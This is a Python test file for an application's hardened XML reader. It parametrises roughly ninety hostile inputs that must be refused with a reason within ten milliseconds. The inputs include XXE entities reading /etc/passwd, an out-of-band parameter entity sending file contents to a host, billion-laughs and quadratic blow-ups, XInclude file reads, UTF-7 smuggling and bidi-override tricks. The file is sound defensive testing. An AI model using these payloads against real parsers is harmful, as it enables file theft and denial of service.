"""A file from outside is read without reading anything else; what is refused says why, in milliseconds."""

# An attack stands on one line, however long.
# ruff: noqa: E501

from __future__ import annotations

import socket
from pathlib import Path
from time import thread_time

import pytest
from lxml import etree

from app import decisions, drawing, xmlsafe
from app.language import use
from app.xmlsafe import XmlRefused

LONGEST = 0.010  # seconds
BPMN = 'xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"'
SECRET = "the key of the office"


def _entities(text: str, *declared: str) -> str:
    return f"<!DOCTYPE a [{''.join(declared)}]><a>{text}</a>"


LAUGHS = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
HEAD = '<?xml version="1.0" encoding="{}"?>'
SPLIT = "a comment stands within"
DOCTYPE = "a document type is not allowed"
BROKEN = "is not XML"
ENCODED = "stored in a way that is not read here"
MANY = "too many elements"
DEEP = "nested too deeply"
CROWDED = "too many attributes, or one that is too long"
SPACES = "too many namespaces"
ELSEWHERE = "takes in something from another place"
TURNED = "hidden signs"

ATTACKS: dict[str, tuple[str | bytes, str]] = {
    # what would be read from elsewhere
    "a file as entity": (_entities("&x;", '<!ENTITY x SYSTEM "file:///etc/passwd">'), DOCTYPE),
    "an address as entity": (_entities("&x;", '<!ENTITY x SYSTEM "http://127.0.0.1:9/x">'), DOCTYPE),
    "an entity in an attribute": ('<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>', DOCTYPE),
    "a parameter entity": (_entities("", '<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;'), DOCTYPE),
    "a parameter entity that sends": (
        _entities("", "<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % s '<!ENTITY e SYSTEM \"http://x/%f;\">'>%s;"),
        DOCTYPE,
    ),
    "an external type": ('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', DOCTYPE),
    "a public type": ('<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd"><a/>', DOCTYPE),
    "an empty type": ("<!DOCTYPE a><a/>", DOCTYPE),
    "a type after a comment": ("<!-- <a> --><!DOCTYPE a><a/>", DOCTYPE),
    "a type after an instruction": ("<?b <a ?><!DOCTYPE a><a/>", DOCTYPE),
    "a type after a declaration": (HEAD.format("UTF-8") + "\n<!DOCTYPE a><a/>", DOCTYPE),
    "a type in small letters": ("<!doctype a><a/>", BROKEN),
    "a type within": ("<a><!DOCTYPE a></a>", BROKEN),
    "a type behind": ("<a/><!DOCTYPE a>", BROKEN),
    "an unparsed entity": (_entities("", '<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "y" NDATA n>'), DOCTYPE),
    "attributes by default": ('<!DOCTYPE a [<!ATTLIST a script CDATA "x">]><a/>', DOCTYPE),
    "a conditional section": ("<!DOCTYPE a [<![INCLUDE[<!ENTITY x 'y'>]]>]><a/>", DOCTYPE),
    "billion laughs": (_entities("&l9;", '<!ENTITY l0 "ha">', *LAUGHS), DOCTYPE),
    "quadratic blow-up": (_entities("&x;" * 2_000, f'<!ENTITY x "{"y" * 20_000}">'), DOCTYPE),
    "an entity of itself": (_entities("&x;", '<!ENTITY x "&x;">'), DOCTYPE),
    "entities in a circle": (_entities("&x;", '<!ENTITY x "&y;"><!ENTITY y "&x;">'), DOCTYPE),
    "an entity that nobody declared": ("<a>&x;</a>", BROKEN),
    "a named letter of HTML": ("<a>&nbsp;</a>", BROKEN),
    "XInclude of a file": (
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>', ELSEWHERE,
    ),
    "XInclude with a way out": (
        '<a xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="x"><q:fallback/></q:include></a>', ELSEWHERE,
    ),
    "XInclude at the top": ('<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', ELSEWHERE),
    "another base": ('<a xml:base="file:///etc/"><b/></a>', ELSEWHERE),
    "another base within": ('<a><b xml:base="http://127.0.0.1:9/"/></a>', ELSEWHERE),
    # what a reviewer would read otherwise
    "a comment in a condition": ("<a>x &gt; 0<!-- --> and y</a>", SPLIT),
    "a comment before a condition": ("<a><!-- checked -->x</a>", SPLIT),
    "a comment behind a condition": ("<a>x<!-- checked --></a>", SPLIT),
    "an instruction in a condition": ("<a>x &gt; 0<?b c?> and y</a>", SPLIT),
    "a comment between two sections": ("<a><![CDATA[x]]><!-- --><![CDATA[ and y]]></a>", SPLIT),
    "a comment beside an element in a text": ("<a>x<b/><!-- -->y</a>", SPLIT),
    "a line that reads backwards": ("<a>x \u202e and y</a>", TURNED),
    "an attribute that reads backwards": ('<a b="x \u2066 y"/>', TURNED),
    "a turned sign written as it is in UTF-16": ("<a>\u202d</a>".encode("utf-16"), TURNED),
    # letters
    "UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>', ENCODED),
    "UTF-7 with its type": (b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>', ENCODED),
    "UTF-32": ("<a/>".encode("utf-32"), BROKEN),
    "UTF-16 without a mark": ("<a/>".encode("utf-16-le"), BROKEN),
    "UTF-16 only said": (b'<?xml version="1.0" encoding="UTF-16"?><a/>', ENCODED),
    "UTF-16 with a type": ("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>".encode("utf-16"), DOCTYPE),
    "UTF-16 the other way with a type": ("\ufeff<!DOCTYPE a><a/>".encode("utf-16-be"), DOCTYPE),
    "half a letter of UTF-16": ("<a>x</a>".encode("utf-16")[:-1], ENCODED),
    "EBCDIC": ('<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"), ENCODED),
    "an alphabet of its own": (HEAD.format("x-user-defined") + "<a/>", ENCODED),
    "Shift JIS": (HEAD.format("Shift_JIS") + "<a/>", ENCODED),
    "GB 18030": (HEAD.format("gb18030") + "<a/>", ENCODED),
    "ISO 2022": (HEAD.format("iso-2022-jp") + "<a>\x1b$B</a>", ENCODED),
    "a codec of Python": (HEAD.format("unicode_escape") + "<a>\\u003cb/\\u003e</a>", ENCODED),
    "rot13": (HEAD.format("rot13") + "<a/>", ENCODED),
    "not UTF-8": (b"<a>\xff\xfe\xfa</a>", ENCODED),
    "a letter written too long": (b"<a>\xc0\xbc</a>", ENCODED),
    "a lone half": (b"<a>\xed\xa0\x80</a>", ENCODED),
    "cut within a letter": ("<a>đ".encode()[:-1], ENCODED),
    "a zero": (b"<a>x\0y</a>", BROKEN),
    "a zero as code": ("<a>&#0;</a>", BROKEN),
    "a control sign": (b"<a>\x08</a>", BROKEN),
    "a control sign as code": ("<a>&#x1b;</a>", BROKEN),
    "half a letter as code": ("<a>&#xd800;</a>", BROKEN),
    "beyond all letters": ("<a>&#x110000;</a>", BROKEN),
    "a code without end": (f"<a>&#{'9' * 10_000};</a>", BROKEN),
    # floods
    "nothing": (b"", "it is empty"),
    "only blanks": (b" \n\t" * 50_000, "it is empty"),
    "too large": (b"<a>" + b" " * xmlsafe.LARGEST + b"</a>", "larger than 2 MiB"),
    "elements": ("<a>" + "<b/>" * 20_000 + "</a>", MANY),
    "elements without end": ("<b>" * 61_000, MANY),
    "elements in a hidden crowd": ("<a>" + "<b/>" * 61_000 + "<!-- --></a>", MANY),
    "comments": ("<a>" + "<!---->" * 5_001 + "</a>", MANY),
    "sections": ("<a>" + "<![CDATA[x]]>" * 5_001 + "</a>", MANY),
    "depth": ("<a>" * 101 + "</a>" * 101, DEEP),
    "more depth": ("<a>" * 5_000, DEEP),
    "attributes": ("<a " + " ".join(f'b{n}=""' for n in range(101)) + "/>", CROWDED),
    "many attributes": ("<a " + " ".join(f'b{n}=""' for n in range(5_000)) + "/>", CROWDED),
    "a long attribute": (f'<a b="{"x" * 200_001}"/>', CROWDED),
    "an attribute twice": ('<a b="1" b="2"/>', BROKEN),
    "namespaces": (f"<a>{''.join(f'<b xmlns:n{n}={n!r}/>' for n in range(1000))}{'<b xmlns=''/>' * 1001}</a>".replace("=''", '=""'), SPACES),
    "namespaces of one element": ("<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(1_900)) + "/>", CROWDED),
    "letters as codes": ("<a>" + "&#65;" * 100_001 + "</a>", "too many letters as codes"),
    # no XML
    "words": (b"this is not XML", BROKEN),
    "a page": (b"<html><p>x<br></html>", BROKEN),
    "two roots": (b"<a/><b/>", BROKEN),
    "an end without beginning": (b"</a>", BROKEN),
    "a prefix that nobody declared": (b"<x:a/>", BROKEN),
    "the prefix xmlns": ('<a xmlns:xmlns="u"/>', BROKEN),
    "a declaration within": ('<a><?xml version="1.0"?></a>', BROKEN),
    "two declarations": ('<?xml version="1.0"?><?xml version="1.0"?><a/>', BROKEN),
    "an attribute without quotes": ("<a b=c/>", BROKEN),
    "a tag in an attribute": ('<a b="<script>"/>', BROKEN),
    "a comment that never ends": ("<a><!-- ", BROKEN),
    "a section that never ends": ("<a><![CDATA[ ", BROKEN),
    "two hyphens in a comment": ("<a><!-- -- --></a>", BROKEN),
    "an ending section in a text": ("<a>]]></a>", BROKEN),
    "a name with a sign": ("<a$b/>", BROKEN),
    "a packed file": (b"PK\x03\x04" + b"\0" * 100, BROKEN),
    "a zipped file": (b"\x1f\x8b\x08\0\0\0", ENCODED),
    "a picture": (b"\x89PNG\r\n\x1a\n", ENCODED),
}  # fmt: skip


def _bytes(content: str | bytes) -> bytes:
    return content.encode() if isinstance(content, str) else content


@pytest.mark.parametrize(("content", "reason"), ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_refused_with_its_reason_in_ten_milliseconds(content, reason):
    content, best, said = _bytes(content), 1.0, None
    for _time in range(5):  # the best of them: other programs run beside the tests
        began = thread_time()
        with pytest.raises(XmlRefused) as refused:
            xmlsafe.read(content)
        best, said = min(best, thread_time() - began), refused.value
    with use("en"):
        assert reason in str(said)
    with use("vi"):
        assert reason not in str(said)
    assert best < LONGEST


def test_the_attacks_are_many():
    assert len(ATTACKS) >= 60


@pytest.mark.parametrize("name", ["a file as entity", "XInclude of a file", "UTF-7", "depth", "words"])
def test_tables_and_pictures_of_drawings_pass_the_same_reader(name):
    content = _bytes(ATTACKS[name][0])
    with use("en"):
        with pytest.raises(decisions.DecisionsRefused) as table:
            decisions.read(content)
        with pytest.raises(drawing.DrawingRefused) as picture:
            drawing.draw(content, {}, title="x")
    for refused in (table, picture):
        assert ATTACKS[name][1] in str(refused.value)


HARMLESS = {
    "the place of a schema": f'<definitions {BPMN} xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="u http://127.0.0.1:9/x.xsd"/>',
    "a style": '<?xml-stylesheet href="http://127.0.0.1:9/x.xsl" type="text/xsl"?><a/>',
    "an import": f'<definitions {BPMN}><import importType="u" location="http://127.0.0.1:9/x" namespace="n"/></definitions>',
    "a comment between elements": "<a><!-- <!DOCTYPE x> &x; --><b>x</b></a>",
    "a section": "<a><![CDATA[<!DOCTYPE x> &x; <b>]]></a>",
    "a mark before UTF-8": "\ufeff<a>đ</a>",
    "UTF-16": "<a>đ</a>".encode("utf-16"),
    "an old alphabet": HEAD.format("windows-1252").encode() + b"<a>\xe9</a>",
    "an alphabet of Central Europe": HEAD.format("windows-1250").encode() + b"<a>\xb3</a>",
    "UTF-8 by its other name": HEAD.format("UTF8") + "<a>đ</a>",
    "another version": '<?xml version="1.1" standalone="yes"?><a/>',
    "blanks before the declaration": '\n <?xml version="1.0"?><a/>',
    "a space of its own on each element": "<a>" + '<b xmlns="u"/>' * 1_500 + "</a>",
    "a hundred floors": "<a>" * 100 + "</a>" * 100,
    "twenty thousand elements": "<a>" + "<b/>" * 19_999 + "</a>",
}  # fmt: skip


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_is_harmless_is_read_and_nothing_is_fetched_for_it(content, monkeypatch):
    monkeypatch.setattr(socket, "socket", _nobody)
    root = xmlsafe.read(_bytes(content))
    assert [found for found in root.iter() if not isinstance(found.tag, str)] == []


def _nobody(*_given: object, **_named: object) -> None:
    raise AssertionError("a connection was opened")


def test_texts_are_read_whole():
    assert xmlsafe.read(b"<a><![CDATA[x > 0]]> and <![CDATA[y]]></a>").text == "x > 0 and y"
    assert xmlsafe.read("<a>đ</a>".encode("utf-16")).text == "đ"
    assert xmlsafe.read(b"<a>&lt;!-- --&gt; &amp;x;</a>").text == "<!-- --> &x;"


def test_no_file_is_read_through_any_door(tmp_path: Path):
    kept = tmp_path / "key"
    kept.write_text(SECRET)
    ways = [
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "{kept.as_uri()}">]><a>&x;</a>',
        f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{kept}" parse="text"/></a>',
        f'<!DOCTYPE a SYSTEM "{kept.as_uri()}"><a/>',
        f'<?xml-stylesheet href="{kept.as_uri()}"?><a/>',
    ]
    for way in ways:
        try:
            told = etree.tostring(xmlsafe.read(way.encode())).decode()
        except XmlRefused as refused:
            told = str(refused)
        assert SECRET not in told


def test_every_shipped_drawing_and_table_is_read():
    root = Path(__file__).resolve().parents[2] / "processes"
    files = [*root.rglob("*.bpmn"), *root.rglob("*.dmn")]
    assert len(files) > 8
    for path in files:
        assert xmlsafe.read(path.read_bytes()).tag.endswith("definitions")
